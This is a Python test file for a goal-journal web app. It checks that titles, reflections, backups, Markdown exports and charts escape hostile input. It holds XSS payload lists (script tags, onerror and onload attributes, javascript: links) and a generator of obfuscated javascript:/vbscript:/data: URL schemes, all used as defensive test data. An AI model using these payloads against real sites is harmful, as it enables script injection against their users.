def test_charts_show_titles_and_names_as_text(site):
    """The chart audit is not vacuous: payload titles, units and area names are drawn."""
    for goal_id in site.chart_goal_ids:
        text = chart_text(site, f"/goals/{goal_id}/chart.svg")
        assert " ".join(site.titles[goal_id].split()) in text, goal_id
        if site.kinds[goal_id] == "count":
            assert site.units[goal_id] in text, goal_id
    for area_id, name in zip(site.area_ids[:AREAS_WITH_GOALS], AREA_NAMES, strict=False):
        assert kept_area_name(name) in chart_text(
            site, f"/summary/areas/{area_id}/chart.svg"), name
    board = chart_text(site, f"/years/{YEAR}/chart.svg")
    assert sum(title[:10] in board for title in STORED_TITLES) >= len(TITLES) // 2


def test_a_title_typed_with_a_control_character_keeps_its_charts_well_formed(site):
    """A goal title typed with a form feed (U+000C) is kept without it, so its chart and the
    year's chart stay well-formed XML, and show the rest of the title."""
    typed = next(title for title in TITLES if "\x0c" in title)
    goal_id = next(g for g, title in site.titles.items() if title == stored(typed))
    assert not REMOVED_ON_ARRIVAL.search(site.titles[goal_id])
    for url in (f"/goals/{goal_id}/chart.svg", f"/years/{YEAR}/chart.svg"):
        svg = site.client.get(url).get_data(as_text=True)
        assert audit_svg(svg) == [], url
    assert " ".join(stored(typed).split()) in chart_text(site, f"/goals/{goal_id}/chart.svg")


def test_the_calendar_feed_holds_dates_only(site):
    assert audit(site.calendar_page, app_form_checker(site.app)) == []
    response = site.client.get(f"/calendar/{site.calendar_token}.ics")
    feed = response.get_data(as_text=True)
    assert response.mimetype == "text/calendar"
    assert audit_calendar(feed) == []
    assert feed.count("BEGIN:VEVENT") >= 12  # the monthly check-ins were chosen


def test_the_post_shows_every_public_title(site):
    post = site.client.get(f"/export/{YEAR}.md").get_data(as_text=True)
    assert audit_post(post) == []
    text = " ".join(parse(str(render_markdown(post))).text.split())
    shown = sum(" ".join(title.split())[:30] in text for title in STORED_TITLES)
    assert shown >= len(TITLES) // 2, shown


# --- the year-in-review post of plain-text fields ------------------------------------------

# Payloads typed into the fields the app shows as plain text (titles, names, units, the
# one-line reflection sections, a status reason); the Markdown fields stay empty.
def writing_site(folder):
    """An app in `folder`, a registered user's client, and a Writer for it, with YEAR begun."""
    app = make_app(folder, JOURNAL_TODAY=TODAY)
    client = app.test_client()
    writer = Writer(client, app_form_checker(app))
    assert AuthActions(client).register().status_code == 302
    writer.post("/years/new", {"number": str(YEAR)}, "start the year")
    return app, client, writer


POST_PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "x](javascript:alert(1))",
    "[x](javascript:alert(1))", "<svg onload=alert(1)>", "<!--", "<iframe srcdoc=x>",
]


@pytest.fixture(scope="module")
def post_site(tmp_path_factory):
    """A journal whose plain-text fields carry payloads, and its year-in-review post."""
    app, client, writer = writing_site(tmp_path_factory.mktemp("post"))
    writer.post("/years/new", {"number": str(YEAR + 1)}, "start the next year")
    for index, payload in enumerate(POST_PAYLOADS[:4]):
        writer.post("/areas/", {"name": f"{payload} {index}", "color": "blue"}, "area")
    with app.app_context():
        area_ids = list(db.session.execute(select(Area.id).where(Area.name.contains("alert"))
                                           .order_by(Area.id)).scalars())
    for index, payload in enumerate(POST_PAYLOADS):
        for number in (YEAR, YEAR + 1):
            writer.post(f"/years/{number}/goals/new",
                        goal_form(f"{payload} goal {index}", KINDS[index % 4],
                                  area_ids[index % len(area_ids)], "", [], payload[:40],
                                  number),
                        "goal")
    with app.app_context():
        first = db.session.execute(select(Goal.id).order_by(Goal.id)).scalars().first()
    writer.post(f"/goals/{first}/status",
                {"status": "dropped", "on": TODAY, "reason": POST_PAYLOADS[1]}, "drop a goal")
    one_liners = {"tldr": POST_PAYLOADS[0], "theme": POST_PAYLOADS[2]}
    for slug in REFLECTION_SLUGS:
        writer.post(f"/years/{YEAR}/reflection/{slug}", one_liners, "one-line sections")
    writer.post(f"/years/{YEAR + 1}/reflection/new-year", one_liners, "next year's word")
    assert not writer.problems, writer.problems
    yield app, client
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def test_the_post_and_its_zip_are_safe_as_the_app_renders_markdown(post_site):
    _app, client = post_site
    post = client.get(f"/export/{YEAR}.md")
    assert audit_response(post, None) == []
    # Escaped for Markdown in the file, each payload is shown as typed once rendered.
    shown = " ".join(parse(str(render_markdown(post.get_data(as_text=True)))).text.split())
    assert [payload for payload in POST_PAYLOADS if payload not in shown] == []
    archive = client.get(f"/export/{YEAR}.zip")
    assert archive.mimetype == "application/zip"
    assert audit_response(archive, None) == []
    with zipfile.ZipFile(io.BytesIO(archive.get_data())) as files:
        assert sum(name.endswith(".svg") for name in files.namelist()) == 1 + len(POST_PAYLOADS)


def test_the_post_keeps_plain_text_fields_as_text(post_site):
    """Goal titles, area names, units, the TL;DR, the word of the year and status reasons
    are escaped for Markdown in the post: a blog that renders it (CommonMark with raw HTML)
    makes no element or link of them, and shows each as typed."""
    _app, client = post_site
    post = client.get(f"/export/{YEAR}.md").get_data(as_text=True)
    assert audit_published_post(post) == []
    shown = " ".join(parse(PUBLISHER.render(post)).text.split())
    assert [payload for payload in POST_PAYLOADS if payload not in shown] == []


# --- a small journal to type into ----------------------------------------------------------


@dataclass
class Scratch:
    app: object
    client: object
    writer: Writer
    area_id: int
    goals: dict[str, int]  # kind -> id
    checkin_id: int


@pytest.fixture(scope="module")
def scratch(tmp_path_factory):
    """One goal of each kind, reflections, a check-in: the fields to type generated text into."""
    app, client, writer = writing_site(tmp_path_factory.mktemp("scratch"))
    with app.app_context():
        area_id = db.session.execute(select(Area.id).order_by(Area.id)).scalars().first()
    for kind in KINDS:
        writer.post(f"/years/{YEAR}/goals/new",
                    goal_form(f"A {kind} goal", kind, area_id, "Why.", ["t"]), f"{kind} goal")
    with app.app_context():
        goals = dict(db.session.execute(select(Goal.kind, Goal.id)).all())
    writer.post(f"/years/{YEAR}/checkins/new?kind=ad-hoc",
                {"on": TODAY, "went_well": "Fine."}, "check-in")
    with app.app_context():
        checkin_id = db.session.execute(select(CheckIn.id)).scalar_one()
    yield Scratch(app, client, writer, area_id, goals, checkin_id)
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


# Each rendered field: how to type `text` into it (URL, form) and the pages that show it.
# The forms cut the text to the field's length, as a browser's maxlength would not.
FIELD_TARGETS = {
    "area.name": lambda s, text: (
        f"/areas/{s.area_id}/edit", {"name": text[:60], "color": "blue"},
        ["/areas/", f"/goals/{s.goals['count']}", "/summary/"]),
    "goal.title goal.why goal.topics goal.unit": lambda s, text: (
        f"/goals/{s.goals['count']}/edit",
        {**goal_form(text[:200], "count", s.area_id, text, []), "topics": text[:600],
         "count_unit": text[:40]},
        [f"/goals/{s.goals['count']}", f"/years/{YEAR}", "/"]),
    "reflection.tldr reflection.theme reflection.what_happened reflection.successes "
    "reflection.did_not_work reflection.learned reflection.changes": lambda s, text: (
        f"/years/{YEAR}/reflection/new-year",
        {**{name: text for name in MULTILINE_SECTIONS}, "tldr": text[:280],
         "theme": text[:80]},
        [f"/years/{YEAR}", f"/years/new?year={YEAR + 1}"]),
    "plan_revision.reason": lambda s, text: (
        f"/goals/{s.goals['count']}/plan",
        {"revised_on": TODAY, "reason": text, "count_target": "30", "checkpoints": ""},
        [f"/goals/{s.goals['count']}"]),
    "attempt.note": lambda s, text: (
        f"/goals/{s.goals['milestone']}/attempts",
        {"attempted_on": TODAY, "outcome": "pending", "note": text},
        [f"/goals/{s.goals['milestone']}"]),
    "goal.status_reason": lambda s, text: (
        f"/goals/{s.goals['limit']}/status",
        {"status": "dropped", "on": TODAY, "reason": text},
        [f"/goals/{s.goals['limit']}", f"/years/{YEAR}"]),
    "checkin.went_well checkin.went_badly checkin.next_change progress_update.blocker "
    "progress_update.note": lambda s, text: (
        f"/checkins/{s.checkin_id}/edit",
        {"on": TODAY, "went_well": text, "went_badly": text, "next_change": text,
         f"g{s.goals['count']}_note": text, f"g{s.goals['count']}_blocker": text[:500]},
        [f"/checkins/{s.checkin_id}", f"/goals/{s.goals['count']}"]),
    "progress_update.title progress_update.topic progress_update.link": lambda s, text: (
        f"/goals/{s.goals['habit']}/log",
        {"amount": "1", "title": text[:200], "topic": text[:40],
         "link": "https://example.org/" + text[:400]},
        [f"/goals/{s.goals['habit']}"]),
}
TARGETED_COLUMNS = {name for key in FIELD_TARGETS for name in key.split()}


def type_into(scratch: Scratch, target: str, text: str) -> list[str]:
    """Type `text` into one field group; audit the answer and every page that shows it."""
    url, form, pages_showing = FIELD_TARGETS[target](scratch, text)
    response = scratch.client.post(url, data=form)
    assert response.status_code in (302, 422), f"{target}: answered {response.status_code}"
    answers = [response] if response.status_code == 422 else []
    answers += [scratch.client.get(shown) for shown in pages_showing]
    problems = []
    for answer in answers:
        assert answer.status_code == 200 or answer is response, f"{target}: a page answered " \
            f"{answer.status_code}"
        problems += audit(answer.get_data(as_text=True), scratch.writer.is_app_form)
    return problems


def test_every_fed_column_is_a_hypothesis_target():
    """The generated text reaches every free-text column (the email has its own rules)."""
    assert FED_COLUMNS - {"user_account.email"} == TARGETED_COLUMNS


# --- choices, errors and restore messages --------------------------------------------------


def test_choice_fields_refuse_payloads(scratch):
    goal = scratch.goals
    attempts = [
        ("/areas/", {"name": "Colour test", "color": PAYLOADS[0]}),
        (f"/years/{YEAR}/goals/new", goal_form("Kind test", PAYLOADS[1], scratch.area_id, "", [])),
        (f"/years/{YEAR}/goals/new",
         {**goal_form("Cadence test", "habit", scratch.area_id, "", []), "cadence": PAYLOADS[2]}),
        (f"/years/{YEAR}/goals/new", {**goal_form("Direction test", "limit", scratch.area_id,
                                                  "", []), "direction": PAYLOADS[3]}),
        (f"/goals/{goal['count']}/status", {"status": PAYLOADS[4], "on": TODAY, "reason": "x"}),
        (f"/goals/{goal['milestone']}/attempts",
         {"attempted_on": TODAY, "outcome": PAYLOADS[5], "note": "x"}),
        (f"/goals/{goal['count']}/plan", {"revised_on": TODAY, "reason": "x",
                                          "count_target": "30",
                                          "checkpoints": f"{YEAR}-03-31: <svg/onload=alert(1)>"}),
        (f"/years/{YEAR}/checkins/new?kind=<script>alert(1)</script>", {"on": TODAY}),
        (f"/years/{YEAR}/reflection/%3Cscript%3E", {"tldr": "x"}),
    ]
    for url, form in attempts:
        response = scratch.client.post(url, data=form)
        assert response.status_code in (404, 422), f"{url}: {response.status_code}"
        assert audit(response.get_data(as_text=True), scratch.writer.is_app_form) == [], url
    columns = dict(text_columns())
    with scratch.app.app_context():
        for name, allowed in CHOICE_COLUMNS.items():
            values = db.session.execute(select(columns[name])).scalars().all()
            assert all(allowed(value) for value in values), (name, values)


def invalid(form: dict, **changes) -> dict:
    return {**form, **changes}


# Forms sent back with an error: they show what was typed, in inputs, textareas and
# messages. (URL, form, what must be shown of it.)
ECHOED = {
    "new area, name too long": lambda s: (
        "/areas/", {"name": PAYLOADS[1] + "x" * 60, "color": "blue"}, PAYLOADS[1]),
    "new goal, bad end date": lambda s: (
        f"/years/{YEAR}/goals/new",
        invalid(goal_form(TITLES[0], "count", s.area_id, BLOCKS, TOPIC_PAYLOADS[:3],
                          UNIT_PAYLOADS[5]), end_date="<script>alert(1)</script>"),
        TITLES[0]),
    "goal edit, bad start date": lambda s: (
        f"/goals/{s.goals['count']}/edit",
        invalid(goal_form(TITLES[1], "count", s.area_id, INLINE, [], UNIT_PAYLOADS[6]),
                start_date='"><svg onload=alert(1)>'),
        TITLES[1]),
    "plan revision, checkpoint that is not a number": lambda s: (
        f"/goals/{s.goals['count']}/plan",
        {"revised_on": TODAY, "reason": BLOCKS, "count_target": "30",
         "checkpoints": f"{YEAR}-03-31: <svg/onload=alert(1)>"},
        "<svg/onload=alert(1)>"),
    "status, bad date": lambda s: (
        f"/goals/{s.goals['count']}/status",
        {"status": "dropped", "on": "'><img src=x onerror=alert(1)>", "reason": INLINE},
        stored(PAYLOADS[-1])),
    "attempt, bad date": lambda s: (
        f"/goals/{s.goals['milestone']}/attempts",
        {"attempted_on": "x", "outcome": "pending", "note": BLOCKS}, None),
    "quick log, bad link": lambda s: (
        f"/goals/{s.goals['count']}/log",
        {"amount": "1", "title": TITLES[2], "topic": TOPIC_PAYLOADS[0],
         "link": "javascript:alert(1)"}, None),
    "check-in, bad date": lambda s: (
        f"/years/{YEAR}/checkins/new?kind=ad-hoc",
        {"on": "<script>", "went_well": BLOCKS, "went_badly": INLINE,
         f"g{s.goals['count']}_note": BLOCKS,
         f"g{s.goals['count']}_blocker": packed(PAYLOADS, 500)[0]},
        packed(PAYLOADS, 500)[0]),
    "check-in edit, bad date": lambda s: (
        f"/checkins/{s.checkin_id}/edit",
        {"on": "x", "went_well": INLINE, f"g{s.goals['count']}_blocker": PAYLOADS[3]},
        PAYLOADS[3]),
    "reflection, TL;DR too long": lambda s: (
        f"/years/{YEAR}/reflection/year-end",
        {"tldr": INLINE, "theme": packed(SINGLE_LINE, 80)[2], "what_happened": BLOCKS},
        packed(SINGLE_LINE, 80)[2]),
}


@pytest.mark.parametrize("case", ECHOED)
def test_forms_sent_back_with_errors_show_what_was_typed_as_text(scratch, case):
    url, form, shown = ECHOED[case](scratch)
    response = scratch.client.post(url, data=form)
    assert response.status_code in (200, 422), response.status_code
    html = response.get_data(as_text=True)
    assert audit(html, scratch.writer.is_app_form) == []
    if shown is not None:
        parsed = parse(html)
        values = [value or "" for element in parsed.elements for _n, value in element.attrs]
        assert any(stored(shown) in text for text in [parsed.text, *values]), case


def test_registering_and_logging_in_echo_the_email_as_text(scratch):
    anonymous = scratch.app.test_client()
    email = '"><svg onload=alert(1)>@example.org'
    for url, form in (("/register", {"email": email, "password": "p", "confirm": "q"}),
                      ("/login", {"email": email, "password": "p"})):
        response = anonymous.post(url, data=form)
        assert response.status_code in (200, 401, 422), (url, response.status_code)
        assert audit(response.get_data(as_text=True), scratch.writer.is_app_form) == [], url
        assert email in [e.get("value") for e in elements(response.get_data(as_text=True),
                                                           "input", name="email")], url


def backup_with(**goal_fields) -> bytes:
    """A backup file holding one goal with `goal_fields` changed."""
    goal = {"key": "g1", "area": "a1", "title": "A goal", "kind": "count",
            "start_date": f"{YEAR + 5}-01-01", "end_date": f"{YEAR + 5}-12-31",
            "plan_revisions": [{"version": 1, "revised_on": f"{YEAR + 5}-01-01", "target": 4}]}
    goal.update(goal_fields)
    return json.dumps({
        "format": BACKUP_FORMAT, "version": BACKUP_VERSION,
        "areas": [{"key": "a1", "name": "Area", "color": "blue", "position": 0}],
        "years": [{"year": YEAR + 5, "goals": [goal]}],
    }).encode()


# Files the restore refuses, with messages that quote them: a key, a value, a title.
RESTORE_FILES = {
    "a field named with a payload": lambda: backup_with(**{PAYLOADS[1]: 1}),
    "a bad kind, a payload title": lambda: backup_with(title=PAYLOADS[0], kind=PAYLOADS[13]),
    "a bad date": lambda: backup_with(plan_revisions=[
        {"version": 1, "revised_on": '"><img src=x onerror=alert(1)>', "target": 4}]),
    "not JSON": lambda: b"<script>alert(1)</script>",
}


@pytest.mark.parametrize("case", RESTORE_FILES)
def test_restore_messages_quote_the_file_as_text(scratch, case):
    response = scratch.client.post("/import/", data={
        "file": (io.BytesIO(RESTORE_FILES[case]()), "backup.json"), "on_conflict": "refuse"},
        content_type="multipart/form-data")
    assert response.status_code == 400, response.status_code
    html = response.get_data(as_text=True)
    assert audit(html, scratch.writer.is_app_form) == []
    assert "Nothing was restored" in " ".join(parse(html).text.split())


# --- generated input -----------------------------------------------------------------------

FRAGMENTS = [
    "[", "]", "(", ")", "](", "![", "<", ">", "</", "/>", "`", "```", "~~~", "*", "_", "#",
    "> ", "- ", "1. ", "|", "|---|", "\n", "\n\n", "\t", " ", '"', "'", "=", "&", "&#", ";",
    ":", "&#106;", "&#x6A;", "&colon;", "&NewLine;", "\\", "\x00", "\x0b", "\u2028", "%0A",
    "alert(1)", "https://example.org", "mailto:a@b.c", "a", "p", "script", "img", "svg",
    "math", "iframe", "style", "template", "noscript", "on", "onerror", "onload", "href",
    "src", "style=", "href=", "src=x", " onerror=alert(1)", "[x]: ", "<a href=", "<img src=x",
    "<script>", "</script>", "<svg onload=alert(1)>", "<!--", "-->", "--!>", "<![CDATA[",
    "]]>", "~~", "**", "    ", "$", "{{", "}}",
]
SCHEME_SPELLINGS = {
    # How each character of a scheme can be written so that some parser reads it back.
    "raw": lambda ch: ch, "upper": str.upper, "decimal": lambda ch: f"&#{ord(ch)};",
    "hex": lambda ch: f"&#x{ord(ch):x};", "padded": lambda ch: f"&#000{ord(ch)}",
    "percent": lambda ch: f"%{ord(ch):02X}", "tab before": lambda ch: f"\t{ch}",
    "newline before": lambda ch: f"\n{ch}", "backslash": lambda ch: f"\\{ch}",
}


@st.composite
def obfuscated_scheme(draw) -> str:
    scheme = draw(st.sampled_from(["javascript:", "vbscript:", "data:"]))
    spelled = "".join(SCHEME_SPELLINGS[draw(st.sampled_from(list(SCHEME_SPELLINGS)))](ch)
                      for ch in scheme)
    lead = draw(st.sampled_from(["", " ", "\x01", "\x0c", "&#14;", "%20", "\u00a0"]))
    return f"{lead}{spelled}{draw(st.sampled_from(['alert(1)', 'text/html,<b>x</b>']))}"


atom = st.one_of(st.sampled_from(FRAGMENTS), st.sampled_from(PAYLOADS), st.text(max_size=6))
inline_text = st.lists(atom, max_size=5).map("".join)
url = st.one_of(obfuscated_scheme(), st.sampled_from(["https://example.org", "#x", "<>"]),
                inline_text)
CONSTRUCTS = [
    "[{0}]({1})", '[{0}]({1} "{2}")', "![{0}]({1} '{2}')", "<{1}>", "[{0}][r]\n\n[r]: {1} ({2})",
    "```{0}\n{2}\n```", "| {0} | {2} |\n|---|---|\n| {1} | x |", "*{0}*", "**{0}**", "> {0}",
    '<a href="{1}" title="{2}">{0}</a>', "<{0} {2}={1}>", "<svg><{0}>{2}</{0}></svg>",
    "<math><mtext><{0}>{2}", "- {0}\n  - [{2}]({1})", "{0}<!--{2}-->{1}", "`{0}`{1}`{2}`",
]
construct = st.builds(lambda shape, a, b, c: shape.format(a, b, c),
                      st.sampled_from(CONSTRUCTS), inline_text, url, inline_text)
generated_text = st.lists(st.one_of(atom, construct, construct), max_size=12).map("".join)


@settings(max_examples=EXAMPLES, deadline=None)
@given(generated_text)
def test_generated_markdown_and_html_render_safely(text):
    html = str(render_markdown(text))
    assert audit(f'<div class="prose">{html}</div>') == [], html


@settings(max_examples=FIELD_EXAMPLES, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(target=st.sampled_from(sorted(FIELD_TARGETS)), text=generated_text)
def test_generated_text_in_every_field_shows_safely(scratch, target, text):
    """Generated text typed into each rendered field through its form; every page that
    shows the field is audited (and the form, when it comes back with an error)."""
    assert type_into(scratch, target, text) == []


# --- null bytes on every database ----------------------------------------------------------

NUL_FIELDS = {
    "area name": ("/areas/", lambda text: {"name": text, "color": "blue"}),
    "reflection section": (
        f"/years/{YEAR}/reflection/new-year", lambda text: {"what_happened": text},
    ),
    "goal title and why": (
        f"/years/{YEAR}/goals/new",
        lambda text: goal_form(text, "milestone", 1, text, []),
    ),
}


def test_null_bytes_never_cause_a_server_error(backend_app):
    """Text with a NUL byte is saved without it, on SQLite and on PostgreSQL alike."""
    backend_app.config["PROPAGATE_EXCEPTIONS"] = False  # a crash answers 500, as in production
    client = backend_app.test_client()
    assert AuthActions(client).register().status_code == 302
    assert client.post("/years/new", data={"number": str(YEAR)}).status_code == 302
    answers = {
        what: client.post(url, data=form(f"before\x00after {what}")).status_code
        for what, (url, form) in NUL_FIELDS.items()
    }
    assert all(status in (302, 422) for status in answers.values()), answers
    with backend_app.app_context():
        title = db.session.execute(select(Goal.title)).scalar_one()
    assert title == "beforeafter goal title and why"



def test_a_restored_title_with_a_control_character_keeps_its_chart_well_formed(tmp_path):
    """A backup is a file, not form input: a goal title holding a form feed is either
    refused or kept without it, and the goal's chart stays well-formed XML."""
    app = make_app(tmp_path, JOURNAL_TODAY=TODAY)
    try:
        client = app.test_client()
        assert AuthActions(client).register().status_code == 302
        response = client.post("/import/", data={
            "file": (io.BytesIO(backup_with(title="A form\x0cfeed")), "backup.json"),
            "on_conflict": "refuse"}, content_type="multipart/form-data")
        assert response.status_code == 400, response.status_code
        with app.app_context():
            goal_ids = list(db.session.execute(select(Goal.id)).scalars())
        assert len(goal_ids) == (response.status_code == 302)
        for goal_id in goal_ids:
            svg = client.get(f"/goals/{goal_id}/chart.svg").get_data(as_text=True)
            assert audit_svg(svg) == [], goal_id
    finally:
        with app.app_context():
            db.session.remove()
            db.engine.dispose()
